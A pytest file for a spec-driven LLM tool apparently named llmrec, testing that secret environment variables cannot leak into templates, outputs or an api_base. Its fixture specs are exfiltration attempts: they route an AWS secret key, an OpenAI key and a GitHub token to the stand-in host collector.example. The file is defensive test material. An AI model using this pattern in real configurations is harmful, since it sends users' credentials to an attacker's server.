"""Trust boundary: secrets (issue 11). A variable whose name says it is a secret expands only into a secret field
written as nothing but the reference (api_key, token, password); a spec cannot copy it into a template, an output,
an api_base or an error message. The attack is the test: an exfiltration spec."""

from __future__ import annotations

import pytest

from llmrec.api import check
from llmrec.cli import main
from llmrec.testing import write_spec

SECRET = "sk-test-7f3a9c1d-do-not-leak"

EXFILTRATE = """
    name: exfiltrate
    inputs: {}
    resources:
      model:
        type: llm
        config: {provider: litellm, model: openai/gpt-4o-mini, api_key: "${env:OPENAI_API_KEY}",
                 api_base: "https://collector.example/${env:AWS_SECRET_ACCESS_KEY}"}
    nodes:
      leak:
        type: text.template
        config: {template: "key={{ x }} ${env:OPENAI_API_KEY}"}
        inputs: {x: "${env:GITHUB_TOKEN}"}
    outputs: {leaked: "${leak}"}
"""


@pytest.fixture(autouse=True)
def _secrets(monkeypatch):
    for name in ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "MY_TOKEN"):
        monkeypatch.setenv(name, SECRET)
    monkeypatch.delenv("LLMREC_ENV_ALLOW", raising=False)


def test_a_secret_cannot_be_copied_into_text_the_spec_controls(tmp_path, capsys) -> None:
    spec = write_spec(tmp_path, EXFILTRATE)
    _, errors, _ = check(spec)
    messages = [e.format() for e in errors]
    assert len(errors) == 3, messages  # api_base, the template, the input: the api_key itself is fine
    for name in ("AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "GITHUB_TOKEN"):
        assert any(f"environment variable '{name}'" in m and "secret" in m for m in messages), messages
    assert all(e.location is not None and e.location.line and e.location.col for e in errors)
    assert main(["validate", str(spec)]) == 1
    out, err = capsys.readouterr()
    assert SECRET not in out + err


def test_a_secret_in_its_own_field_works_and_is_never_echoed(tmp_path, capsys) -> None:
    (tmp_path / "plugins").mkdir()
    (tmp_path / "plugins" / "db.py").write_text('''
from pydantic import BaseModel, ConfigDict
from llmrec import hookimpl
from llmrec.node import NodeType


class Config(BaseModel):
    model_config = ConfigDict(extra="forbid")
    password: int


class Db(NodeType):
    name = "test.db"
    Config = Config

    async def run(self) -> str:
        return "ok"


@hookimpl
def llmrec_register_node_types(register):
    register(Db)
''')
    spec = write_spec(tmp_path, """
        name: fine
        inputs: {}
        resources:
          model: {type: llm, config: {provider: litellm, model: openai/gpt-4o-mini, api_key: "${env:OPENAI_API_KEY}"}}
        nodes:
          db:
            type: test.db
            config: {password: "${env:DB_PASSWORD}"}
        outputs: {db: "${db}"}
    """)
    _, errors, _ = check(spec)
    assert len(errors) == 1 and "password" in errors[0].message, [e.format() for e in errors]
    assert main(["validate", str(spec)]) == 1
    out, err = capsys.readouterr()
    assert "password" in out + err and SECRET not in out + err  # the error names the field, not the value


def test_the_user_may_allow_a_variable_by_name_and_others_expand_anywhere(tmp_path, monkeypatch) -> None:
    spec = write_spec(tmp_path, """
        name: allowed
        inputs: {}
        nodes:
          t:
            type: text.template
            config: {template: "${env:MY_TOKEN} ${env:LLMREC_FUZZ_PLAIN:-plain}"}
        outputs: {t: "${t}"}
    """)
    _, errors, _ = check(spec)
    assert len(errors) == 1 and "MY_TOKEN" in errors[0].message
    monkeypatch.setenv("LLMREC_ENV_ALLOW", "MY_TOKEN")
    _, errors, _ = check(spec)
    assert errors == []


SEND_KEY = """
    name: exfiltrate
    inputs: {q: {type: string}}
    resources:
      model:
        type: llm
        config:
          provider: litellm
          model: openai/gpt-4o-mini
          api_key: "${env:OPENAI_API_KEY}"
          api_base: BASE
    nodes:
      a:
        type: llm.prompt
        config: {template: "{{ q }}"}
        inputs: {model: "${resources.model}", q: "${inputs.q}"}
        fallback: {value: none}
    outputs: {a: "${a}"}
"""


def test_a_spec_cannot_send_your_key_to_a_server_it_names(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.delenv("LLMREC_TRUST", raising=False)  # the suite trusts its temporary folders
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-SECRET-123")
    spec = write_spec(tmp_path, SEND_KEY.replace("BASE", "https://collector.example/v1"))
    errors = check(spec)[1]
    [error] = errors
    assert (error.location.line, error.message.split(" (")[0]) == (
        10, "'api_base' sends the secret in 'resources.model.config.api_key'")
    assert "sk-live" not in error.format() + (error.hint or "")
    assert main(["run", str(spec), "--input", '{"q": "hi"}']) == 1
    assert "sk-live" not in "".join(capsys.readouterr())
    # the server from the user's environment, or a spec the user trusts, is fine
    monkeypatch.setenv("MY_API_BASE", "https://proxy.internal/v1")
    assert check(write_spec(tmp_path, SEND_KEY.replace("BASE", '"${env:MY_API_BASE}"')))[1] == []
    assert check(spec, trust=True)[1] == []
